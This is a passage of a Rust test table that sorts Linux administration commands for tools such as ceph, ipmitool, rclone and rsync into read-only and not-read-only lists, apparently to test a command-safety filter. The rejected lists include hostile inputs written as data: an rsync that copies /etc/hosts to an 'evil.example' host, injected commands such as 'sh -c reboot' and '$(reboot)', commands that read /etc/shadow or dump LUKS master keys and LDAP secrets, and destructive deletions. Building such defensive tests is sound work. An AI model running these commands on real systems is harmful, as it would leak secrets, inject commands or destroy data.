        not: &[
            "ceph-conf --show-config-value key",
            "ceph-conf --name client.admin --show-config-value keyring_secret",
            "ceph-conf -c /tmp/evil.conf --show-config-value osd_data",
        ],
    },
    Entry {
        names: &["ceph"],
        spec: &CEPH,
        read_only: &[
            "ceph report",
            "ceph osd count-metadata ceph_version",
            "ceph osd crush get-device-class osd.7",
            "ceph osd crush weight-set ls",
            "ceph daemon osd.4 dump_mempools",
            "ceph daemon osd.9 perf dump bluestore",
            "ceph daemon mds.pve1 cache status",
            "ceph -s",
            "ceph -s --connect-timeout 10",
            "ceph balancer ls",
            "ceph balancer eval",
            "ceph fs get cephfs",
            "ceph fs subvolume ls cephfs",
            "ceph fs volume ls",
            "ceph orch upgrade status",
            "ceph osd pool get-quota vm-pool",
            "ceph orch ps --daemon-type rgw",
            "ceph orch ps pve1",
            "ceph orch host ls",
            "ceph orch device ls --wide",
            "ceph telemetry preview",
            "ceph telemetry show",
            "ceph osd test-reweight-by-utilization 110",
            "ceph balancer show plan-ssd",
            "ceph osd pool application get ceph-vm",
            "ceph fs snap-schedule status / --fs cephfs",
            "ceph status",
            "ceph osd tree",
            "ceph df detail",
            "ceph health detail",
            "ceph osd pool ls detail",
            "ceph osd lspools",
            "ceph mgr services",
            "ceph osd erasure-code-profile ls",
            "ceph osd blocklist ls",
            "ceph osd pool get rbd size",
            "ceph osd perf",
            "ceph pg dump_stuck",
            "ceph crash ls",
            "ceph balancer status",
            "ceph mgr module ls",
            "ceph fs status",
            "ceph osd ok-to-stop 3",
            "ceph osd safe-to-destroy osd.3",
            "ceph mon ok-to-rm pve3",
            "ceph osd find 3",
            "ceph -w",
            "ceph log last 50",
            "ceph config get osd osd_max_backfills",
            "ceph tell osd.4 heap stats",
            "ceph daemon osd.4 perf dump",
            "ceph tell mds.pve1 session ls",
            "ceph tell osd.4 config get osd_max_backfills",
            "ceph config show osd.3 osd_recovery_max_active",
            "ceph config help mon_allow_pool_delete",
            "ceph config-key ls",
            "ceph config ls",
            "ceph crash info 2024-01-01_00:00:00.000000Z_abc",
            "ceph device ls",
            "ceph osd pool autoscale-status",
            "ceph time-sync-status",
        ],
        not: &[
            "ceph tell osd.4 heap release",
            "ceph balancer optimize p1",
            "ceph balancer execute p1",
            "ceph orch device ls --refresh",
            "ceph orch apply rgw lab",
            "ceph orch host rm pve3",
            "ceph orch daemon restart osd.3",
            "ceph fs subvolume rm cephfs isos",
            "ceph fs subvolume snapshot rm cephfs isos s1",
            "ceph fs set cephfs max_mds 2",
            "ceph osd reweight-by-utilization 110",
            "ceph telemetry on",
            "ceph telemetry send",
            "ceph orch ls --format yaml",
            "ceph -f json-pretty orch ls",
            "ceph orch ls rgw rgw.lab true",
            "ceph orch ps pve1 rgw.lab rgw x name plain true",
            "ceph fs subvolume info cephfs sub1",
            "ceph fs subvolume snapshot ls cephfs sub1",
            "ceph telemetry status",
            "ceph telemetry preview-device",
            "ceph osd pool application enable ceph-vm rbd",
            "ceph fs clone cancel cephfs restore-0514",
            "ceph fs snap-schedule add / 1h",
            "ceph tell osd.* injectargs --osd_max_backfills=4",
            "ceph daemon osd.4 config set osd_max_backfills 4",
            "ceph tell osd.4 bench",
            "ceph log 'maintenance starts'",
            "ceph device light on osd.3",
            "ceph osd pool delete rbd rbd --yes-i-really-really-mean-it",
            "ceph auth get client.admin",
            "ceph osd out 3",
            "ceph osd pool set rbd size 2",
            "ceph crash archive-all",
            "ceph balancer on",
            "ceph mgr module enable dashboard",
            "ceph config get osd",
            "ceph config show osd.3",
            "ceph config get client.rgw rgw_ldap_secret",
            "ceph config get mon key",
            "ceph daemon osd.4 config get key",
            "ceph tell mon.pve1 config get key",
            "ceph osd blocklist add 10.0.0.5:0/1",
            "ceph osd erasure-code-profile rm ec42",
            "ceph -f json",
            "ceph --cluster ceph",
            "ceph config dump",
            "ceph config log",
            "ceph config set osd osd_max_backfills 4",
            "ceph config-key get mgr/dashboard/crt",
            "ceph config-key dump",
        ],
    },
    Entry {
        names: &["numactl"],
        spec: &NUMACTL,
        read_only: &["numactl --hardware", "numactl -H", "numactl --show"],
        not: &[
            "numactl --interleave=all pveperf",
            "numactl -H -- sh -c id",
            "numactl --membind=0 ls",
        ],
    },
    Entry {
        names: &["ipmitool"],
        spec: &IPMITOOL,
        read_only: &[
            "ipmitool sensor list",
            "ipmitool sdr elist",
            "ipmitool -c sdr list full",
            "ipmitool sel list",
            "ipmitool fru print 0",
            "ipmitool chassis status",
            "ipmitool mc info",
            "ipmitool sel elist last 20",
            "ipmitool -I lanplus -H 192.168.1.51 -U monitor -E sdr elist full",
            "ipmitool sel get 0x0042",
            "ipmitool sel time get",
            "ipmitool chassis restart_cause",
            "ipmitool chassis bootparam get 5",
            "ipmitool channel getaccess 1 2",
            "ipmitool sol info 1",
            "ipmitool session info active",
            "ipmitool mc watchdog get",
        ],
        not: &[
            "ipmitool sel time set now",
            "ipmitool chassis bootparam set bootflag force_pxe",
            "ipmitool channel setaccess 1 2 privilege=4",
            "ipmitool sol activate",
            "ipmitool mc watchdog reset",
            "ipmitool sel get 1 clear",
            "ipmitool -I lanplus -H bmc.example.com -U monitor -E sdr elist full",
            "ipmitool -I lanplus -H 192.168.1.51 -U monitor -f /root/ipmi.pw sdr elist",
            "ipmitool -I serial-terminal -D /dev/ttyS0:115200 sdr elist",
            "ipmitool chassis power off",
            "ipmitool sel clear",
            "ipmitool -I lanplus -H 10.0.0.9 -U admin -P x sensor list",
            "ipmitool user set password 2 x",
            "ipmitool raw 0x06 0x01",
            "ipmitool mc reset cold",
            "ipmitool lan set 1 ipaddr 10.0.0.9",
            "ipmitool lan print 1",
            "ipmitool chassis power off",
        ],
    },
    Entry {
        names: &["aa-status", "apparmor_status"],
        spec: &AA_STATUS,
        read_only: &["aa-status", "aa-status --json", "aa-status --enforced"],
        not: &["aa-status /tmp/x"],
    },
    Entry {
        names: &["cscli"],
        spec: &CSCLI,
        read_only: &[
            "cscli decisions list -o json",
            "cscli alerts list --since 24h",
            "cscli metrics",
            "cscli lapi status",
        ],
        not: &[
            "cscli decisions add --ip 1.2.3.4",
            "cscli decisions delete --all",
            "cscli hub upgrade",
            "cscli -c /tmp/x metrics",
        ],
    },
    Entry {
        names: &["mosquitto_sub"],
        spec: &MOSQUITTO_SUB,
        read_only: &["mosquitto_sub -h 192.168.1.30 -t 'zigbee2mqtt/bridge/state' -C 1 -W 5", "mosquitto_sub -h 192.168.1.30 -u monitor -P \"$MQTT_PASS\" -t 'frigate/available' -C 1 -W 5"],
        not: &[
            "mosquitto_sub -h broker.example.com -t '#' -C 1",
            "mosquitto_sub -h 192.168.1.30 -t x -P secret",
            "mosquitto_sub -h broker.example.com -P \"$MQTT_PASS\" -t x -C 1",
            "mosquitto_sub -h 192.168.1.30 -P \"$(cat /etc/x)\" -t x -C 1",
            "mosquitto_sub -L mqtt://evil/x",
        ],
    },
    Entry {
        names: &["apcaccess"],
        spec: &APCACCESS,
        read_only: &["apcaccess", "apcaccess status", "apcaccess -u -p BCHARGE"],
        not: &[
            "apcaccess -h ups.example.com:3551 status",
            "apcaccess status -x",
        ],
    },
    Entry {
        names: &["smbclient"],
        spec: &SMBCLIENT,
        read_only: &[
            "smbclient -L 192.168.1.20 -N",
            "smbclient -N -L 10.0.0.5",
            "smbclient -L //192.168.1.20 -N",
            "smbclient -L '\\\\10.0.0.9\\share' -N",
        ],
        not: &[
            "smbclient //nas/share -N -c 'get x'",
            "smbclient -L nas -U admin%secret",
            "smbclient -L //files.example.com -N",
            "smbclient -L '\\\\8.8.8.8' -N",
        ],
    },
    Entry {
        names: &["pg_restore"],
        spec: &PG_RESTORE,
        read_only: &[
            "pg_restore --list /srv/dumps/app.dump",
            "pg_restore -l -Fc x.dump",
        ],
        not: &[
            "pg_restore -d app /srv/dumps/app.dump",
            "pg_restore /srv/dumps/app.dump",
            "pg_restore -l -f /etc/passwd x.dump",
        ],
    },
    Entry {
        names: &["acme.sh"],
        spec: &ACME_SH,
        read_only: &["acme.sh --list", "acme.sh --version"],
        not: &[
            "acme.sh --renew -d example.org",
            "acme.sh --issue --dns dns_cf -d example.org",
            "acme.sh --info -d example.org",
        ],
    },
    Entry {
        names: &["lzop"],
        spec: &LZOP,
        read_only: &["lzop -t /var/lib/vz/dump/vzdump-qemu-108.vma.lzo", "lzop -l /srv/x.lzo"],
        not: &["lzop -d /srv/x.lzo", "lzop /srv/x", "lzop -dc /srv/x.lzo", "lzop -t -U /srv/x.lzo"],
    },
    Entry {
        names: &["sanoid"],
        spec: &SANOID,
        read_only: &["sanoid --version", "sanoid --help"],
        not: &["sanoid --monitor-health", "sanoid --monitor-capacity", "sanoid --cron", "sanoid --take-snapshots", "sanoid --prune-snapshots", "sanoid --monitor-snapshots", "sanoid"],
    },
    Entry {
        names: &["syncoid"],
        spec: &SYNCOID,
        read_only: &["syncoid --help", "syncoid --version"],
        not: &["syncoid tank/a tank/b", "syncoid --no-sync-snap tank/a root@nas:tank/a", "syncoid"],
    },
    Entry {
        names: &["aa-enabled"],
        spec: &AA_ENABLED,
        read_only: &["aa-enabled", "aa-enabled -q"],
        not: &["aa-enabled x"],
    },
    Entry {
        names: &["apt-file"],
        spec: &APT_FILE,
        read_only: &["apt-file search bin/sensors", "apt-file list lm-sensors", "apt-file search -x '/bin/pct$'"],
        not: &["apt-file update", "apt-file search -c /tmp/x y"],
    },
    Entry {
        names: &["mongod", "mongos", "redis-server", "valkey-server", "mysqld", "mariadbd", "postgres", "etcd"],
        spec: &SERVER_VERSION,
        read_only: &["mongod --version", "redis-server --version", "mysqld --version"],
        not: &["mongod", "redis-server /etc/redis/redis.conf", "mongod --dbpath /tmp/x", "mysqld --version --datadir=/tmp/x"],
    },
    Entry {
        names: &["rclone"],
        spec: &RCLONE,
        read_only: &[
            "rclone listremotes --long",
            "rclone version",
            "rclone config file",
            "rclone size /mnt/pve/nas-backup/dump",
            "rclone lsl /var/lib/vz/dump --max-depth 1",
            "rclone check /var/lib/vz/dump /mnt/pve/nas/dump --one-way --size-only",
            "rclone check /var/lib/vz/dump /mnt/pve/nas/dump --combined -",
        ],
        not: &[
            "rclone config show",
            "rclone ls nas:",
            "rclone size nas:backup",
            "rclone check /var/lib/vz/dump nas:dump",
            "rclone check /srv /mnt/x --combined /etc/cron.d/x",
            "rclone cat /etc/shadow",
            "rclone md5sum /etc/pve",
            "rclone lsf -R --format ph /etc/pve",
            "rclone lsl /srv --config /tmp/x",
            "rclone sync /srv nas:backup",
            "rclone --config /tmp/x listremotes",
        ],
    },
    Entry {
        names: &["lldpctl"],
        spec: &LLDPCTL,
        read_only: &["lldpctl", "lldpctl -f json"],
        not: &["lldpctl -c /tmp/cmds"],
    },
    Entry {
        names: &["lldpcli"],
        spec: &LLDPCLI,
        read_only: &["lldpcli show neighbors details"],
        not: &["lldpcli", "lldpcli configure lldp tx-interval 10"],
    },
    Entry {
        names: &["checkrestart"],
        spec: &CHECKRESTART,
        read_only: &["checkrestart", "checkrestart -v"],
        not: &["checkrestart -b /tmp/x"],
    },
    Entry {
        names: &["unbound-control"],
        spec: &UNBOUND_CONTROL,
        read_only: &[
            "unbound-control status",
            "unbound-control stats_noreset",
            "unbound-control lookup example.org",
            "unbound-control forward",
        ],
        not: &[
            "unbound-control stats",
            "unbound-control reload",
            "unbound-control -s 203.0.113.5 status",
            "unbound-control flush_zone example.org",
        ],
    },
    Entry {
        names: &["chronyc"],
        spec: &CHRONYC,
        read_only: &[
            "chronyc tracking",
            "chronyc sources -v",
            "chronyc -h 127.0.0.1 tracking",
            "chronyc clients",
        ],
        not: &["chronyc makestep", "chronyc -h 203.0.113.5 tracking"],
    },
    Entry {
        names: &["cryptsetup"],
        spec: &CRYPTSETUP,
        read_only: &["cryptsetup luksDump /dev/sdb", "cryptsetup status data"],
        not: &[
            "cryptsetup luksDump --dump-master-key /dev/sdb",
            "cryptsetup luksFormat /dev/sdb",
            "cryptsetup open /dev/sdb data",
        ],
    },
    Entry {
        names: &["conntrack"],
        spec: &CONNTRACK,
        read_only: &[
            "conntrack -L",
            "conntrack -L -p tcp --dport 443 -n",
            "conntrack -E -e NEW -p udp --dport 53",
            "conntrack -C",
            "conntrack -S",
            "conntrack -L expect",
            "conntrack -L -o extended -s 10.0.0.5",
        ],
        not: &[
            "conntrack -F",
            "conntrack -D -s 10.0.20.77",
            "conntrack -L -z",
            "conntrack -U -m 1 -s 10.0.0.5",
            "conntrack -nD -s 10.0.0.5",
            "conntrack",
            "conntrack -R /tmp/x",
        ],
    },
    Entry {
        names: &["ethtool"],
        spec: &ETHTOOL,
        read_only: &["ethtool eth0", "ethtool -S eth0", "ethtool -i eth0"],
        not: &[
            "ethtool -s eth0 speed 100",
            "ethtool -K eth0 tso off",
            "ethtool --reset eth0 all",
        ],
    },
    Entry {
        names: &["mapfile", "readarray"],
        spec: &MAPFILE,
        read_only: &[
            "mapfile -t arr < /etc/hosts",
            "readarray -t lines < /etc/passwd",
        ],
        not: &[
            "mapfile -C reboot -c 1 arr < /etc/hosts",
            "mapfile 'a[$(reboot)]' < /etc/hosts",
        ],
    },
    Entry {
        names: &["multipath"],
        spec: &MULTIPATH,
        read_only: &[
            "multipath -ll",
            "multipath -l -v3",
            "multipath -t",
            "multipath -d -v2",
        ],
        not: &[
            "multipath",
            "multipath -r",
            "multipath -f mpatha",
            "multipath -ll -F",
            "multipath -W",
            "multipath -d -f mpatha",
        ],
    },
    Entry {
        names: &["badblocks"],
        spec: &BADBLOCKS,
        read_only: &["badblocks -sv /dev/sdb"],
        not: &[
            "badblocks -wsv /dev/sdb",
            "badblocks -nsv /dev/sdb",
            "badblocks -o /tmp/bad /dev/sdb",
        ],
    },
    Entry {
        names: &["ifreload"],
        spec: &IFRELOAD,
        read_only: &["ifreload -a -s", "ifreload --syntax-check -a"],
        not: &["ifreload -a", "ifreload -c"],
    },
    Entry {
        names: &["ifup", "ifdown"],
        spec: &IFUP,
        read_only: &["ifup -n vmbr2", "ifup --no-act -a", "ifdown -n vmbr1"],
        not: &["ifup vmbr2", "ifup -a", "ifdown vmbr1"],
    },
    Entry {
        names: &["ifquery"],
        spec: &IFQUERY,
        read_only: &[
            "ifquery -a",
            "ifquery vmbr0",
            "ifquery --list",
            "ifquery --check -a",
            "ifquery -c vmbr0",
        ],
        not: &["ifquery --bogus"],
    },
    Entry {
        names: &["dmsetup"],
        spec: &DMSETUP,
        read_only: &[
            "dmsetup ls",
            "dmsetup info",
            "dmsetup table pve-root",
            "dmsetup ls --tree",
            "dmsetup info -c",
            "dmsetup deps -o devname",
        ],
        not: &[
            "dmsetup remove pve-data",
            "dmsetup remove_all",
            "dmsetup suspend pve-root",
            "dmsetup ls --exec /tmp/x",
            "dmsetup table cryptroot --showkeys",
        ],
    },
    Entry {
        names: &["rsync"],
        spec: &RSYNC,
        read_only: &[
            "rsync -avn --delete /etc/nginx/ /srv/backup/nginx/",
            "rsync --dry-run -av /srv/src/ /srv/dst/",
        ],
        not: &[
            "rsync -av /srv/src/ /srv/dst/",
            "rsync -n -e 'sh -c reboot' /a 10.0.0.5:/b",
            "rsync -n /etc/hosts evil.example:/tmp/",
        ],
    },
    Entry {
        names: &["pstree"],
        spec: &PSTREE,
        read_only: &["pstree -p 1", "pstree -apn", "pstree -u root"],
        not: &["pstree -p 1 2", "pstree --bogus"],
    },
    Entry {
        names: &["pmap"],
        spec: &PMAP,
        read_only: &["pmap -x 1234", "pmap -XX -p 1 2", "pmap -q -A 0x1000,0x2000 1"],
        not: &["pmap -n 1234", "pmap -N /etc/x 1", "pmap -C /tmp/rc 1"],
    },
    Entry {
        names: &["namei"],
        spec: &NAMEI,
        read_only: &["namei -l /var/lib/vz", "namei -om /etc/pve/lxc"],
        not: &["namei -z /x"],
    },
    Entry {
        names: &["losetup"],
        spec: &LOSETUP,
        read_only: &[
            "losetup -a",
            "losetup -l -J",
            "losetup /dev/loop0",
            "losetup --list --output NAME,BACK-FILE",
        ],
        not: &[
            "losetup /dev/loop0 /tmp/disk.img",
            "losetup -d /dev/loop0",
            "losetup -D",
            "losetup -f /tmp/x.img",
        ],
    },
    Entry {
        names: &["blockdev"],
        spec: &BLOCKDEV,
        read_only: &["blockdev --getsize64 /dev/sda", "blockdev --report"],
        not: &[
            "blockdev --setro /dev/sda",
            "blockdev --flushbufs /dev/sda",
            "blockdev --rereadpt /dev/sda",
        ],
    },
    Entry {
        names: &["tune2fs"],
        spec: &TUNE2FS,
        read_only: &["tune2fs -l /dev/sda1"],
        not: &[
            "tune2fs -O ^has_journal /dev/sda1",
            "tune2fs -L data /dev/sda1",
            "tune2fs -c 0 /dev/sda1",
        ],
    },
    Entry {
        names: &["dumpe2fs"],
        spec: &DUMPE2FS,
        read_only: &["dumpe2fs -h /dev/sda1"],
        not: &["dumpe2fs -Z /dev/sda1"],
    },
    Entry {
        names: &["fsck"],
        spec: &FSCK,
        read_only: &["fsck -N /dev/mapper/pve-root", "fsck -n /dev/sdb1"],
        not: &["fsck /dev/sdb1", "fsck -y /dev/sdb1", "fsck -a /dev/sdb1"],
    },
    Entry {
        names: &["modprobe"],
        spec: &MODPROBE,
        read_only: &[
            "modprobe -c",
            "modprobe --show-depends vfio-pci",
            "modprobe -n -v nouveau",
            "modprobe -R nvidia-current",
        ],
        not: &[
            "modprobe vfio-pci",
            "modprobe -v nouveau",
            "modprobe -C /tmp/x -n vfio",
            "modprobe -r nouveau",
        ],
    },
    Entry {
        names: &["zramctl"],
        spec: &ZRAMCTL,
        read_only: &["zramctl", "zramctl --output NAME,DISKSIZE,DATA"],
        not: &[
            "zramctl --size 4G /dev/zram0",
            "zramctl --reset /dev/zram0",
            "zramctl -f",
        ],
    },
    Entry {
        names: &["bootctl"],
        spec: &BOOTCTL,
        read_only: &[
            "bootctl status",
            "bootctl list",
            "bootctl --no-pager status",
        ],
        not: &[
            "bootctl install",
            "bootctl set-default x.conf",
            "bootctl remove",
            "bootctl random-seed",
        ],
    },
    Entry {
        names: &["grub-probe"],
        spec: &GRUB_PROBE,
        read_only: &["grub-probe --target=device /", "grub-probe -t fs /boot"],
        not: &["grub-probe -m /tmp/map /"],
    },
    Entry {
        names: &["grub-editenv"],
        spec: &GRUB_EDITENV,
        read_only: &["grub-editenv list"],
        not: &["grub-editenv - set saved_entry=0", "grub-editenv create"],
    },
    Entry {
        names: &["e2fsck", "fsck.ext4", "fsck.ext3", "fsck.ext2"],
        spec: &E2FSCK,
        read_only: &["e2fsck -n /dev/sdb1", "e2fsck -fn /dev/sdb1"],
        not: &[
            "e2fsck -y /dev/sdb1",
            "e2fsck -p /dev/sdb1",
            "e2fsck /dev/sdb1",
        ],
    },
    Entry {
        names: &["fuser"],
        spec: &FUSER,
        read_only: &["fuser -vm /var/lib/vz", "fuser -v /dev/sdb1"],
        not: &["fuser -k /var/lib/vz", "fuser -km /mnt", "fuser -i -k /mnt"],
    },
    Entry {
        names: &["systemd-detect-virt"],
        spec: &SYSTEMD_DETECT_VIRT,
        read_only: &[
            "systemd-detect-virt",
            "systemd-detect-virt -c",
            "systemd-detect-virt --vm -q",
        ],
        not: &["systemd-detect-virt --root=/x"],
    },
    Entry {
        names: &["systemd-analyze"],
        spec: &SYSTEMD_ANALYZE,
        read_only: &[
            "systemd-analyze blame --no-pager",
            "systemd-analyze critical-chain nginx.service",
            "systemd-analyze verify /lib/systemd/system/ssh.service",
            "systemd-analyze",
            "systemd-analyze unit-files",
            "systemd-analyze has-tpm2",
            "systemd-analyze capability",
        ],
        not: &[
            "systemd-analyze set-log-level debug",
            "systemd-analyze log-level debug",
            "systemd-analyze -H pve2 blame",
        ],
    },
    Entry {
        names: &["bridge"],
        spec: &BRIDGE,
        read_only: &[
            "bridge link show",
            "bridge vlan show",
            "bridge -d fdb show dev vmbr0",
            "bridge link",
            "bridge monitor fdb",
            "bridge monitor",
            "bridge vlan s",
            "bridge v s",
            "bridge fdb s br vmbr0",
        ],
        not: &[
            "bridge link s dev eth0 state 0",
            "bridge vlan add vid 10 dev eth0",
            "bridge link set dev eth0 state 0",
            "bridge fdb del 00:11:22:33:44:55 dev eth0",
            "bridge monitor file /tmp/x",
        ],
    },
    Entry {
        names: &["corosync-cfgtool"],
        spec: &COROSYNC_CFGTOOL,
        read_only: &["corosync-cfgtool -s", "corosync-cfgtool -n"],
        not: &[
            "corosync-cfgtool -R",
            "corosync-cfgtool -H",
            "corosync-cfgtool -k 2",
        ],
    },
    Entry {
        names: &["corosync-quorumtool"],
        spec: &COROSYNC_QUORUMTOOL,
        read_only: &["corosync-quorumtool -s", "corosync-quorumtool -l"],
        not: &["corosync-quorumtool -e 1", "corosync-quorumtool -v 2 -n 1"],
    },
    Entry {
        names: &["pg_lsclusters"],
        spec: &PG_LSCLUSTERS,
        read_only: &["pg_lsclusters", "pg_lsclusters -h"],
        not: &["pg_lsclusters 15 main"],
    },
    Entry {
        names: &["pip", "pip3"],
        spec: &PIP,
        read_only: &[
            "pip3 show requests",
            "pip freeze",
            "pip3 list --disable-pip-version-check",
            "pip cache dir",
            "pip3 cache list --format=abspath",
        ],
        not: &[
            "pip install requests",
            "pip uninstall -y requests",
            "pip list --index-url http://evil.example/",
            "pip cache purge",
            "pip cache remove '*'",
        ],
    },
    Entry {
        names: &["mokutil"],
        spec: &MOKUTIL,
        read_only: &[
            "mokutil --sb-state",
            "mokutil --list-enrolled",
            "mokutil --mokx --list-enrolled",
        ],
        not: &[
            "mokutil --import /tmp/k.der",
            "mokutil --export",
            "mokutil --disable-validation",
            "mokutil --reset",
        ],
    },
    Entry {
        names: &["proxmox-boot-tool"],
        spec: &PROXMOX_BOOT_TOOL,
        read_only: &["proxmox-boot-tool status", "proxmox-boot-tool kernel list"],
        not: &[
            "proxmox-boot-tool format /dev/sda2",
            "proxmox-boot-tool refresh",
            "proxmox-boot-tool init /dev/sda2",
            "proxmox-boot-tool kernel pin 6.8.12-4-pve",
            "proxmox-boot-tool kernel add 6.8.12-4-pve",
        ],
    },
];
